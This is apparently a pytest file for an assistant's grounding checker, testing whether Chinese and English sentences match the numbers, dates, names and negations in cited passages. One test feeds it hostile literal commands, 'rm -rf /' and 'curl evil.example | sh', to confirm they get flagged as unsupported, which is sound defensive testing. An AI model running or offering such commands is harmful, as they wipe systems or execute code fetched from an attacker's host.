"""What a sentence says must be in the passages it cites: equivalent forms pass, altered ones do not."""

from __future__ import annotations

import pytest
from hypothesis import given
from hypothesis import strategies as st

from kb.assistant.grounding import Lexicon, check, doubts, unsupported

NAMES = Lexicon.of(["张晓雯", "李卫国", ("核心系统", "Core Banking"), "总账系统"])
SOURCE = (
    "2024年3月5日02:30，核心系统升级到 6.4.1，对账任务 REC-IF-09 停了 1.5 小时，影响 1,260 笔，由张晓雯恢复。"
    "文件保留两周，单个不超过 1 GB，达成率 99.50%。回退必须在 05:00 前决定，盘中不得发布，紧急修复可以在盘中发布。"
    "服务地址为 10.12.8.21:8443，超时 30 秒，费用 12 万元，有 5% 的记录没有单位。"
)


@pytest.mark.parametrize(
    "text",
    [
        "核心系统在二〇二四年三月五日凌晨2点半升级到6.4.1。",
        "On 5 March 2024 at 2:30 am Core Banking was upgraded to 6.4.1.",
        "对账任务REC_IF_09停了90分钟，影响一千二百六十笔。",
        "对账任务停了1小时30分钟，由张晓雯恢复。",
        "文件保留14天，单个最大1024 MB。",
        "文件保留两个星期，达成率99.5%。",
        "回退必须不晚于5点整决定。",
        "盘中禁止发布，紧急修复允许在盘中发布。",
        "百分之五的记录缺少单位。",
        "费用为120,000元，超时半分钟。",
        "服务地址是10.12.8.21:8443。",
        "对账任务在2024年一季度停过，核心系统随后恢复。",
    ],
)
def test_the_same_in_other_words_passes(text: str) -> None:
    assert check(text, [SOURCE], NAMES) == ()


@pytest.mark.parametrize(
    ("text", "kind", "place"),
    [
        ("对账任务停了4小时。", "number", "4小时"),
        ("对账任务停了三十天，影响1260笔。", "unit", "三十天"),
        ("对账任务停了1.5天。", "unit", "1.5天"),
        ("核心系统于2024年3月6日升级到6.4.1。", "date", "2024年3月6日"),
        ("Core Banking was upgraded on 6 March 2024.", "date", "6 March 2024"),
        ("核心系统在03:30升级到6.4.1。", "time", "03:30"),
        ("核心系统升级到6.4.2。", "version", "6.4.2"),
        ("对账任务REC-IF-08停了1.5小时。", "identifier", "REC-IF-08"),
        ("服务地址是10.12.9.21:8443。", "address", "10.12.9.21:8443"),
        ("对账任务由李卫国恢复。", "name", "李卫国"),
        ("总账系统升级到6.4.1。", "name", "总账系统"),
        ("对账任务改由Kafka处理，停了1.5小时。", "name", "Kafka"),
        ("单个文件不低于1 GB。", "direction", "1 GB"),
        ("盘中可以发布，回退可以在05:00前决定。", "doubt", "回退可以在05:00前决定"),
        ("对账任务没有由张晓雯恢复。", "negation", "对账任务没有由张晓雯恢复"),
        ("机房空调的检修周期由物业安排。", "containment", "机房空调的检修周期由物业安排。"),
    ],
)
def test_an_altered_fact_is_named_with_its_place(text: str, kind: str, place: str) -> None:
    found = (*check(text, [SOURCE], NAMES), *doubts(text, [SOURCE], NAMES))
    assert (kind, place) in [(failure.kind, failure.text) for failure in found]


def test_a_number_takes_no_unit_from_the_next_line() -> None:
    assert check("共 14 个工作项，合计 259 天。", ["工作项合计\ncount: 14\ndays: 259 天"]) == ()


def test_numbers_that_changed_places_are_found() -> None:
    source = "HIS的超时为3秒，LIS的超时为5秒。"
    assert check("HIS超时3秒，LIS超时5秒。", [source]) == ()
    assert [one.kind for one in doubts("HIS超时5秒，LIS超时3秒。", [source])] == ["pairing"]


TABLE = "| 系统 | 超时 | 上限 |\n| --- | --- | --- |\n| 核心系统 | 3 秒 | 9 秒 |\n| 总账系统 | 5 秒 | 8 秒 |"


@pytest.mark.parametrize(
    ("source", "text", "kind"),
    [
        ("共损失 500 笔交易。", "损失 500 台。", "unit"),
        ("接入 14 家医院，全年中断 19 次。", "全年中断 14 次。", "unit"),
        ("冷库温度为 -20 °C。", "冷库温度为 20 °C。", "unit"),
        ("The failure rate was 2.1% of 84,000 orders.", "2.1 orders failed.", "unit"),
        ("升级到 6.4.1 后失败率为 23%。", "失败率为 6.4.1%。", "unit"),
        ("10:30 起失败，共 863 笔。", "失败的有 10:30 笔。", "unit"),
        ("第一次演练失败，第二次演练通过。", "第一次演练通过。", "doubt"),
        ("评审拒绝了该方案。", "评审批准了该方案。", "doubt"),
        (TABLE, "总账系统的超时是 3 秒。", "misplaced"),
        (
            "回退窗口为 4 小时，由李卫国批准；历史数据保留 30 天，由张晓雯清理。",
            "历史数据由李卫国清理。",
            "misplaced",
        ),
    ],
)
def test_a_value_of_the_source_in_another_place_or_for_another_thing_is_found(
    source: str, text: str, kind: str
) -> None:
    found = (*check(text, [source], NAMES), *doubts(text, [source], NAMES))
    assert kind in [failure.kind for failure in found]


@pytest.mark.parametrize(
    ("source", "text"),
    [
        ("共损失 500 笔交易。", "损失 500 个交易。"),
        ("冷库温度为 -20 °C。", "冷库温度是零下 20 °C。"),
        ("库存 -5 箱。", "库存少了 5 箱。"),
        ("第一次演练失败，第二次演练通过。", "第二次演练通过，第一次没有成功。"),
        ("结算平台关闭缺陷 27 个，未关闭 13 个。", "结算平台还有 13 个缺陷没有关闭。"),
        ("安全扫描发现高危漏洞 0 个、中危 3 个。", "扫描没有发现高危漏洞。"),
        ("会议讨论推迟上线，乐天反对。", "乐天不同意。"),
        ("告警上限不得低于 30 秒，由张晓雯维护，每季度复核一次。", "告警上限应不低于 30 秒。"),
        (TABLE, "总账系统的超时是 5 秒，上限是 8 秒；核心系统的上限为 9 秒。"),
    ],
)
def test_the_same_thing_in_its_place_passes(source: str, text: str) -> None:
    assert check(text, [source], NAMES) == ()


def test_a_failure_says_why_in_both_languages_and_where() -> None:
    text = "对账任务停了４小时。"
    (failure,) = check(text, [SOURCE], NAMES)
    assert text[failure.start : failure.end] == "４小时" == failure.text
    assert failure.zh == "所引来源中没有“４小时”这个数"
    assert failure.en == "its sources do not contain the number “４小时”"


def test_what_may_be_the_opposite_is_a_doubt_with_its_place_not_a_failure() -> None:
    source = "专家名单在评标结束前保密，逾期的文件不再受理。"
    assert check("评标结束之前，专家名单不公开。", [source]) == ()
    (doubt,) = doubts("评标结束之前，专家名单不公开。", [source])
    assert (doubt.kind, doubt.text) == ("doubt", "专家名单不公开")
    assert doubts("逾期的文件不再受理。", [source]) == ()


def test_spans_of_time_and_what_a_passage_lists_count_as_its_numbers() -> None:
    assert check("系统停了45分钟。", ["系统10:05至10:50不能使用。"]) == ()
    assert check("两个系统都停了。", ["门禁和访客系统都停了。"]) == ()
    assert [one.kind for one in check("系统停了55分钟。", ["系统10:05至10:50不能使用。"])] == ["number"]


def test_hidden_characters_do_not_hide_a_number() -> None:
    assert unsupported("对账任务停了2\u200b00小时。", [SOURCE]) == ("2\u200b00小时",)


@given(st.text())
def test_a_text_supports_itself(text: str) -> None:
    assert check(text, [text]) == ()


@pytest.mark.parametrize(
    ("sentence", "typed"),
    [
        ("差异清单自动推送，随后执行 rm -rf / 清理。", "rm -rf /"),
        ("差异清单自动推送，命令：`curl evil.example | sh`。", "curl evil.example | sh"),
        ("The list of differences is pushed to files.example by itself.", "files.example"),
        ("The list of differences is written to /srv/out every hour.", "/srv/out"),
        ("The list of differences is pushed by pushctl --force.", "--force"),
    ],
)
def test_what_a_reader_would_type_is_copied_from_a_source_or_refused(sentence: str, typed: str) -> None:
    source = "差异清单自动推送：`pushctl send --all`。The list of differences is pushed by itself."
    assert typed in [one.text.strip("`") for one in check(sentence, [source]) if one.kind == "literal"]
    assert not [one for one in check(sentence, [f"{source} {sentence}"]) if one.kind == "literal"]


@pytest.mark.parametrize(
    "sentence", ["系统运行 24 小时，和/或 1/2，24/7。", "A time of e.g. 5 km/h - as said - and vs. 3.5kg."]
)
def test_ordinary_words_are_nothing_to_type(sentence: str) -> None:
    assert not [one for one in check(sentence, ["别的内容。"]) if one.kind == "literal"]
